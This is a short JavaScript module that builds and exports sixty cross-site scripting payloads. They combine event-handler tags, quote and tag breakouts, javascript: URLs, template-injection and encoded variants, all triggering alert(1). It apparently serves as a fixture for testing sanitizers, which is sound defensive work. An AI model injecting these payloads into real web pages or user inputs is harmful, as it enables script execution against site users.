/** Sixty ways in which a text tries to become a program; each is short enough for a name. */
const run = 'alert(1)'
const events = [
  'img src=x onerror',
  'svg onload',
  'body onload',
  'input autofocus onfocus',
  'select autofocus onfocus',
  'textarea autofocus onfocus',
  'details open ontoggle',
  'video src=x onerror',
  'audio src=x onerror',
  'marquee onstart',
  'iframe onload',
  'object data=x onerror',
  'style onload',
  'a tabindex=0 autofocus onfocus',
  'img srcset=x onerror',
]
const closers = ['', '">', "'>", '</textarea>']

const bare = [
  `<script>${run}</script>`,
  `"><script>${run}</script>`,
  `</script><script>${run}</script>`,
  `</title><script>${run}</script>`,
  `<iframe src=javascript:${run}>`,
  `<a href=javascript:${run}>x</a>`,
  `<svg><script>${run}</script>`,
  `<math href=javascript:${run}>x`,
  `<embed src=javascript:${run}>`,
  `<base href=javascript:/>`,
  `<meta http-equiv=refresh content=0;url=//x>`,
  `<form action=javascript:${run}><button>`,
  `javascript:${run}`,
  `{{constructor.constructor('${run}')()}}`,
  `\${${run}}`,
  `';${run};//`,
  `";${run};//`,
  `--><img src=x onerror=${run}>`,
  `]]><img src=x onerror=${run}>`,
  `&lt;img src=x onerror=${run}&gt;`,
  `%3Cimg src=x onerror=${run}%3E`,
  `\\u003cimg src=x onerror=${run}\\u003e`,
  `＜img src=x onerror=${run}＞`,
  `<IMG SRC=x OnErRoR=${run}>`,
  `<img/src=x/onerror=${run}>`,
  `<img src=x onerror=${run}//`,
  `<<img src=x onerror=${run}>>`,
  `<svg/onload=${run}>`,
  `<x onclick=${run} autofocus>x`,
  `<link rel=stylesheet href=//x>`,
]

const inTags = events.flatMap((event) => closers.map((closer) => `${closer}<${event}=${run}>`))

/** All bare ones, then tags, alternating how they break out of what stands around them. */
export const payloads = [...bare, ...inTags.filter((_, place) => place % 2 === 0)].slice(0, 60)
